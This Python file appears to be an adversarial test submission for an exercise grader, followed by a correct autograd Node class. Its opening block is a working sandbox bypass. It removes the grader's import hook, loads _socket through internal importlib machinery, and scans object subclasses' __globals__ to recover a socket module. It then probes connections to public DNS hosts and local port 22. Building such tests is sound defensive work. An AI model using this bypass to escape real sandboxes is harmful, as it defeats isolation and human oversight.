# exercise: node-mul
# Hostile: tries to reach the network, then behaves
import sys
import types

# The allowlist refuses these modules; one who read the grader takes its finder off sys.meta_path and calls
# importlib's own machinery, which audits no import of a module built into the interpreter. The guard refuses
# the C extension all the same, so it looks for a socket module the grader itself imported: the zygote's, which
# the classes in the process lead to (every subclass of object, theirs too, and a method's __globals__).
sys.meta_path[:] = [f for f in sys.meta_path if "grader" not in type(f).__module__]
_load = sys.modules["_frozen_importlib"]._gcd_import
try:
    _socket = _load("_socket")
except ImportError:
    _socket = None
    _classes, _seen = [object], set()
    while _classes and _socket is None:
        _cls = _classes.pop()
        if id(_cls) in _seen:
            continue
        _seen.add(id(_cls))
        try:
            _classes.extend(type.__subclasses__(_cls))
        except TypeError:
            pass
        for _value in list(vars(_cls).values()):
            _globals = getattr(_value, "__globals__", None)
            if type(_globals) is not dict:
                continue
            _module = _globals.get("socket")
            if _module is not None and hasattr(_module, "socket"):  # a module that imported socket
                _socket = _module
            elif "AF_INET" in _globals and "create_connection" in _globals:  # socket's own
                _socket = types.SimpleNamespace(**_globals)
    print("network: the zygote's socket module", "found" if _socket is not None else "not found")

for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)] if _socket is not None else []:
    try:
        _s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        _s.settimeout(1)
        _s.connect((_host, _port))
        _s.close()
        print("network: reached", _host)
    except OSError as _e:
        print("network: no", _host, type(_e).__name__)

import math


class Node:
    """A number that remembers how it was made, so backward() can find every gradient.

    Node(value, parents=(), slopes=()) is the lessons' signature. This engine gives each node a
    _backward function instead of stored slopes: it sends the node's grad on to its parents.
    """

    def __init__(self, value, parents=(), slopes=()):
        self.value, self.grad = value, 0.0
        self.parents, self.slopes = parents, slopes
        self._backward = lambda: None

    def __repr__(self):
        return f"Node({self.value}, grad={self.grad})"

    def __add__(self, other):
        other = other if isinstance(other, Node) else Node(other)
        out = Node(self.value + other.value, (self, other))

        def _backward():
            self.grad += out.grad
            other.grad += out.grad

        out._backward = _backward
        return out

    def __mul__(self, other):
        other = other if isinstance(other, Node) else Node(other)
        out = Node(self.value * other.value, (self, other))

        def _backward():
            self.grad += other.value * out.grad
            other.grad += self.value * out.grad

        out._backward = _backward
        return out

    def __pow__(self, n):
        out = Node(self.value**n, (self,))

        def _backward():
            self.grad += n * self.value ** (n - 1) * out.grad

        out._backward = _backward
        return out

    def sigmoid(self):
        s = 1 / (1 + math.exp(-self.value))
        out = Node(s, (self,))

        def _backward():
            self.grad += s * (1 - s) * out.grad

        out._backward = _backward
        return out

    def relu(self):
        out = Node(max(self.value, 0.0), (self,))

        def _backward():
            self.grad += (1.0 if self.value > 0 else 0.0) * out.grad

        out._backward = _backward
        return out

    def __neg__(self):  # -self
        return self * -1

    def __sub__(self, other):  # self - other
        return self + (-other)

    def __radd__(self, other):  # other + self
        return self + other

    def __rsub__(self, other):  # other - self
        return (-self) + other

    def __rmul__(self, other):  # other * self
        return self * other

    def backward(self):
        order, seen = [], set()

        def visit(node):  # inputs before outputs
            if id(node) not in seen:
                seen.add(id(node))
                for parent in node.parents:
                    visit(parent)
                order.append(node)

        visit(self)
        self.grad = 1.0
        for node in reversed(order):  # outputs first: each grad is complete before it is passed on
            node._backward()
